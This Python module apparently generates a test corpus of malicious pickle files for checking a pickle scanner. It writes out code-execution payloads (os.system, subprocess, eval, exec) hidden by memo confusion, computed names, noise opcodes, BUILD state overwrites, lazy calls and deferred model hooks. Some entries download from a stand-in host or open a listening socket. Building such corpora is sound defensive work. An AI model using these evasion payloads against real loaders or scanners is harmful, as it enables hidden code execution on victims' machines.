"""Pickles that hide what they call: dotted names, old names, the memo, computed names, noise, broken ends, frames."""

import struct

from .pickles import Build, Call, Extend, G, Inst, Items, Named, New, NewEx, Obj, Raw, body, head, pickle, system, text
from .store import COMMANDS, rng

DOTTED = [
    ("random", "_os.system"), ("tempfile", "_os.popen"), ("shutil", "os.system"), ("glob", "os.execv"), ("logging", "os.popen"), ("copyreg", "sys.modules.clear"),
    ("collections", "abc.sys.modules"), ("json", "codecs.builtins.exec"), ("dataclasses", "builtins.eval"), ("typing", "sys.modules.get"), ("uuid", "os.system"), ("datetime", "sys.setprofile"),
    ("numpy", "os.system"), ("torch", "os.popen"), ("numpy.lib.format", "pickle.loads"), ("sklearn.utils", "warnings.sys.modules.get"), ("fractions", "re.functools.sys.exit"), ("argparse", "_sys.modules.get"),
    ("os.path", "os.system"), ("enum", "bltns.eval"), ("inspect", "builtins.exec"), ("zipfile", "importlib.import_module"), ("collections", "OrderedDict.__init__.__globals__.get"), ("pandas", "io.common.os.system"), ("concurrent.futures.thread", "threading._os.system"),
]
OLD = [
    ("__builtin__", "eval", ["__import__('os').getpid()"]), ("__builtin__", "execfile", ["/tmp/c.py"]), ("__builtin__", "apply", [G("os", "system"), ("true",)]), ("__builtin__", "reduce", [G("posix", "system"), ["true", "x"]]), ("__builtin__", "file", ["/tmp/.c", "w"]),
    ("__builtin__", "input", ["x"]), ("__builtin__", "intern.__self__.eval", ["1"]), ("commands", "getstatusoutput", ["true"]), ("commands", "mkarg", ["x"]), ("os", "popen2", ["true"]), ("os", "spawnvp", [0, "true", ["true"]]), ("cPickle", "loads", [b"cos\ngetpid\n(tR."]),
    ("cPickle", "load", [None]), ("SocketServer", "TCPServer", [("0.0.0.0", 4445), None]), ("urllib", "urlopen", ["http://corpus.example/"]), ("urllib2", "urlopen", ["http://corpus.example/2"]), ("urllib", "urlretrieve", ["http://corpus.example/", "/tmp/.c"]), ("httplib", "HTTPSConnection", ["10.9.8.7"]),
    ("dumbdbm", "open", ["/tmp/.cd", "n"]), ("anydbm", "open", ["/tmp/.ca", "n"]), ("xmlrpclib", "Server", ["http://corpus.example/"]), ("new", "code", [0, 0, 0, 0, b"", (), (), (), "f", "n", 1, b""]), ("BaseHTTPServer", "HTTPServer", [("", 8081), None]), ("itertools", "imap", [G("os", "system"), ["true"]]), ("Tkinter", "Tk", []),
]
MK = b"("


def dotted(corpus):
    for number, (module, name) in enumerate(DOTTED):
        chance = rng("dotted", number)
        what = chance.choice(COMMANDS)
        value = Call(G(module, name), what) if number % 3 else {"n": number, "cfg": Call(G(module, name), what)}
        corpus.add("dotted-name", "pickle", f"enc{number}.pkl", pickle(value, 4 + number % 2), f"{module} leads to {name}")
    for number, (module, name, arguments) in enumerate(OLD):
        if name == "mkarg":
            continue
        value = Call(G(module, name), *arguments) if number % 4 else Inst(G(module, name), *arguments)
        corpus.add("python2-name", "pickle", f"legacy{number}.pkl", pickle(value, number % 3), f"{module}.{name} of Python 2")


def memo(corpus):
    def put(kind, name, data, why):
        corpus.add(kind, "pickle", name, data, why)

    strings = text("collections") + b"\x94" + text("OrderedDict") + b"\x94"
    put("memo-confusion", "a.pkl", b"\x80\x04" + strings + b"00" + text("posix") + b"q\x01" + b"0" + text("system") + b"q\x00" + b"0h\x01h\x00\x93" + text("true") + b"\x85R.", "PUT overwrites slots that MEMOIZE filled")
    put("memo-confusion", "b.pkl", b"\x80\x04" + text("os") + b"q\x070" + text("math") + b"\x940" + text("popen") + b"\x940h\x07h\x02\x93" + text("true") + b"\x85R.", "sparse PUT, then MEMOIZE counts from the size of the memo")
    put("memo-confusion", "c.pkl", b"\x80\x04" + text("subprocess") + b"r\xff\xff\x00\x000" + text("getoutput") + b"r\x00\x00\x01\x000j\xff\xff\x00\x00j\x00\x00\x01\x00\x93" + text("true") + b"\x85R.", "LONG_BINPUT far away")
    put("memo-confusion", "d.pkl", b"\x80\x04" + text("math") + b"\x94" + text("nt") + b"q\x00" + b"0" + text("system") + b"\x94" + b"00h\x00h\x01\x93" + text("ver") + b"\x85R.", "slot 0 is written again")
    put("memo-confusion", "e.pkl", b"cmath\nfloor\np9\n0cos\nsystem\np9\n0g9\n(Vtrue\ntR.", "a slot first holds a harmless global")
    put("memo-indirection", "a.pkl", b"(Vos\np1\nVsystem\np2\nt0\x80\x04g1\ng2\n\x93(Vtrue\ntR.", "names from text GET")
    put("memo-indirection", "b.pkl", b"cos\npopen\np0\n0(dp1\nVcmd\nVtrue\np2\ns0g0\n(g2\ntR.", "function and argument from the memo")
    put("memo-indirection", "c.pkl", b"\x80\x03(X\x02\x00\x00\x00osq\x00X\x04\x00\x00\x00execq\x01X\x08\x00\x00\x00builtinsq\x02t0h\x02h\x01\x93X\x04\x00\x00\x00passq\x03\x85R.", "names from a tuple that was dropped")
    put("memo-indirection", "d.pkl", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x86\x940h\x00h\x01\x93\x94\x8c\x04true\x94\x85\x940h\x03h\x05R.", "REDUCE over two memo slots, one overwritten by none")
    rot = Call(G("codecs", "decode"), "flfgrz", "rot13")
    joined = Call(G("builtins", "str.join"), "", ["sys", "tem"])
    chars = [
        (Named("os", rot), "the name is rot13"), (Named("os", joined), "the name is joined"), (Named(Call(G("builtins", "str"), b"posix", "ascii"), "system"), "the module is decoded by str"),
        (Named("os", Call(G("builtins", "bytes.decode"), b"popen")), "the name is decoded"), (Named(Call(G("builtins", "str.replace"), "suxbpruxocess".replace("ux", "##"), "##", ""), "getoutput"), "the module is made by replace"),
        (Named("builtins", Call(G("builtins", "str.lower"), "EVAL")), "the name is made by lower"), (Named("os", Call(G("operator", "concat"), "sys", "tem")), "the name is concatenated"),
        (Named("os", Call(G("codecs", "decode"), b"73797374656d", "hex")), "the name is hex"), (Named("os", Call(G("operator", "getitem"), {"k": "system"}, "k")), "the name is looked up"),
        (Named("os", Call(G("builtins", "str.format"), "{}{}", "sys", "tem")), "the name is formatted"), (Named("os", Call(G("_operator", "mod"), "%stem", "sys")), "the name is made by %"), (Named(Call(G("builtins", "max"), ["os", "a"]), "system"), "the module is a maximum"),
    ]
    for number, (named, why) in enumerate(chars):
        put("computed-name", f"cn{number}.bin", pickle(Call(named, "true"), 4), why)
    noise = [
        (b"N0", "None and POP"), (b"(1", "MARK and POP_MARK"), (b"\x80\x04", "PROTO"), (b"\x95\x00\x00\x00\x00\x00\x00\x00\x00", "an empty FRAME"), (b"]0", "a list dropped"), (b"\x94", "MEMOIZE"), (b"q\x05h\x050", "PUT, GET and POP"),
        (b"(K\x01K\x02t0", "a tuple dropped"), (b"cmath\nfloor\n0", "a harmless global dropped"), (b"\x8c\x03abc0" * 40, "forty strings dropped"), (b"20", "DUP and POP"),
    ]
    for number, (between, why) in enumerate(noise):
        data = b"\x80\x04" + text("posix") + between + text("popen") + between.replace(b"q\x05h\x050", b"") + b"\x93" + text("true") + b"\x85R."
        put("interleaved", f"il{number}.pkl", data, f"{why} between the operands")


def calls(corpus):
    def put(kind, number, data, why, name="obj{}.pkl"):
        corpus.add(kind, "pickle", name.format(number), data, why)

    system_, popen = G("os", "system"), G("subprocess", "Popen")
    forms = [
        (Inst(system_, "true"), 1, "INST"), (Obj(system_, "echo corpus"), 1, "OBJ"), (New(popen, ["true"]), 2, "NEWOBJ"), (NewEx(popen, (["true"],), {"shell": True}), 4, "NEWOBJ_EX"),
        ([Obj(system_, "true")], 3, "OBJ in a list"), (NewEx(G("logging", "FileHandler"), (), {"filename": "/tmp/.c"}), 4, "keyword file name"), (Inst(G("builtins", "exec"), "pass"), 0, "INST of exec"),
    ]
    for number, (value, proto, why) in enumerate(forms):
        put("call-opcodes", number, pickle(value, proto), why)
    put("call-opcodes", 20, b"\x80\x02(cos\nsystem\nU\x04trueo0}.", "OBJ, then POP hides what it gave")
    put("call-opcodes", 21, b"\x80\x02cbuiltins\nexec\n(U\x04passtR0K\x07.", "REDUCE, then POP")
    put("call-opcodes", 22, b"(S'true'\nios\nsystem\n0]q\x00.", "INST, then POP")
    extend = Extend(Call(G("functools", "partial"), G("os", "system")), ["true"])
    put("call-opcodes", 23, pickle(Build(Call(G("collections", "deque")), Call(G("os", "system"), "true")), 4), "the state of BUILD is a call")
    put("call-opcodes", 24, pickle(Items(Call(G("os", "popen"), "true"), [("a", 1)]), 4), "SETITEMS on what a call gave")
    put("call-opcodes", 25, pickle(extend, 4), "APPENDS to a partial over os.system")
    register = Call(G("copyreg", "add_extension"), "os", "system", 240)
    for number, opcode in enumerate([b"\x82\xf0", b"\x83\xf0\x00", b"\x84\xf0\x00\x00\x00"]):
        data = b"\x80\x04" + body(register, 4) + b"0" + opcode + text(COMMANDS[number]) + b"\x85R."
        put("extension-registry", number, data, f"EXT{2 ** number} names what copyreg registered")
    put("extension-registry", 5, b"\x80\x02" + body(Call(G("copy_reg", "add_extension"), "builtins", "eval", 7), 2) + b"0\x82\x07(U\x01" + b"1tR.", "by the old module's name")
    slots = (None, {"_safe": G("os", "system")})
    put("build-state", 0, pickle(Build(G("collections", "OrderedDict"), (None, {"__init__": G("builtins", "eval")})), 4), "BUILD sets __init__ of a class")
    put("build-state", 1, pickle([Build(G("numpy", "core"), slots), Call(G("numpy", "core._safe"), "true")], 4), "BUILD sets an attribute of a module, which is then called")
    put("build-state", 2, pickle(Build(Call(G("types", "SimpleNamespace")), {"__class__": G("os", "system"), "run": Call(G("os", "popen"), "true")}), 4), "the state holds a call")
    put("build-state", 3, pickle([Build(G("sys", "modules"), {"math": G("os", "path")}), 1], 2), "BUILD into sys.modules")
    put("build-state", 4, pickle([Build(G("json", "decoder"), (None, {"scanner": G("builtins", "exec")})), Call(G("json", "decoder.scanner"), "pass")], 5), "json.decoder.scanner becomes exec")
    put("build-state", 5, pickle([Build(G("builtins", "__dict__"), {"len": G("os", "system")}), Call(G("builtins", "len"), "true")], 4), "len becomes os.system")
    import_ = Call(G("builtins", "__import__"), "os")
    ways = [
        (Call(Call(G("builtins", "getattr"), import_, "system"), "true"), "getattr over __import__"), (Call(Call(Call(G("operator", "attrgetter"), "system"), import_), "true"), "attrgetter over __import__"),
        (Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "subprocess"), "getoutput"), "true"), "getattr over import_module"),
        (Call(Call(G("builtins", "getattr"), G("builtins", "dict"), "get"), G("sys", "modules"), "os"), "sys.modules through dict.get"), (Call(Call(G("pkgutil", "resolve_name"), "subprocess:run"), ["true"]), "resolve_name"),
        (Call(G("builtins", "getattr"), Call(G("builtins", "getattr"), G("builtins", "tuple"), "__base__"), "__subclasses__"), "the subclasses of object"), (Call(Call(G("builtins", "object.__subclasses__"))), "object.__subclasses__"),
        (Call(Call(G("operator", "itemgetter"), "eval"), G("builtins", "__dict__")), "itemgetter over the dictionary of builtins"), (Call(G("operator", "call"), G("os", "system"), "true"), "operator.call"),
        (Call(Call(G("types", "MethodType"), G("os", "system"), "true")), "a bound method over os.system"), (Call(G("builtins", "type"), "X", (), {"__init__": G("os", "system")}), "a class made with os.system in it"), (Call(Call(G("inspect", "getattr_static"), import_, "popen"), "true"), "getattr_static"),
        (Call(Call(G("builtins", "vars"), import_).__class__(G("builtins", "dict.get"), Call(G("builtins", "vars"), import_), "system"), "true"), "vars of a module"),
    ]
    for number, (value, why) in enumerate(ways):
        put("attribute-chain", number, pickle(value, 4 + number % 2), why)
    lazy = [
        (Call(G("builtins", "list"), Call(G("builtins", "map"), G("os", "system"), ["true"])), "list over map"), (Call(G("builtins", "tuple"), Call(G("builtins", "filter"), G("os", "popen"), ["true"])), "tuple over filter"),
        (Call(G("collections", "deque"), Call(G("itertools", "starmap"), G("os", "system"), [("true",)])), "deque over starmap"), (Call(G("builtins", "bytes"), Call(G("builtins", "map"), G("builtins", "eval"), ["1"])), "bytes over map"),
        (Call(G("builtins", "set"), Call(G("itertools", "accumulate"), ["true", "x"], G("os", "spawnlp"))), "set over accumulate"), (Call(Call(G("functools", "partial"), G("os", "system"), "true")), "partial, called"),
        (Call(G("functools", "reduce"), G("subprocess", "call"), [["true"], 0]), "reduce over subprocess.call"), (Call(G("builtins", "next"), Call(G("builtins", "iter"), Call(G("functools", "partial"), G("os", "system"), "true"), 1)), "iter of a callable"),
        (Call(G("builtins", "sorted"), ["true"], G("os", "system")), "sorted with a key"), (Call(G("builtins", "dict.fromkeys"), Call(G("builtins", "map"), G("builtins", "exec"), ["pass"])), "dict.fromkeys over map"), (Call(G("builtins", "max"), Call(G("builtins", "map"), G("posix", "system"), ["true"])), "max over map"),
        (Call(G("multiprocessing.pool", "ThreadPool.map"), Call(G("multiprocessing.pool", "ThreadPool"), 1), G("os", "system"), ["true"]), "a pool of threads"),
    ]
    for number, (value, why) in enumerate(lazy):
        put("lazy-call", number, pickle(value, 4), why)
    later = [
        (Build(New(G("sklearn.preprocessing._function_transformer", "FunctionTransformer")), {"func": G("os", "system"), "inverse_func": None}), "transform calls os.system"), (Build(New(G("sklearn.pipeline", "Pipeline")), {"steps": [("a", G("subprocess", "getoutput"))]}), "a step is getoutput"),
        (Call(G("collections", "defaultdict"), G("os", "abort")), "a missing key aborts"), ({"hook": Call(G("functools", "partial"), G("os", "system"), "true")}, "a partial waits to be called"), (Call(G("weakref", "finalize"), G("math", "floor"), G("os", "system"), "true"), "runs at the end"),
        (Build(New(G("sklearn.feature_extraction.text", "CountVectorizer")), {"analyzer": "word", "tokenizer": G("builtins", "eval")}), "the tokenizer is eval"), (Build(New(G("torch.nn.modules.linear", "Linear")), {"_forward_hooks": {0: G("os", "system")}}), "a forward hook"),
        (Build(New(G("keras.src.layers.core.lambda_layer", "Lambda")), {"function": G("builtins", "exec")}), "a layer's function"), (Build(New(G("torch.utils.data.dataloader", "DataLoader")), {"collate_fn": G("builtins", "eval"), "worker_init_fn": G("os", "system")}), "a loader's functions"), (Call(G("contextlib", "ExitStack.callback"), Call(G("contextlib", "ExitStack")), G("os", "system"), "true"), "an exit stack"),
    ]
    for number, (value, why) in enumerate(later):
        put("deferred", number, pickle(value, 4), why)
    for number, (module, name, proto) in enumerate([("antigravity", "geohash", 4), ("this", "s", 2), ("pip.__main__", "main", 3), ("idlelib.__main__", "x", 4), ("test.autotest", "main", 0), ("lib2to3.__main__", "x", 4), ("corpus_evil.setup", "done", 4), ("venv.__main__", "rc", 5)]):
        put("import-only", number, pickle(G(module, name), proto), f"importing {module} runs it")


def make(corpus):
    dotted(corpus)
    memo(corpus)
    calls(corpus)
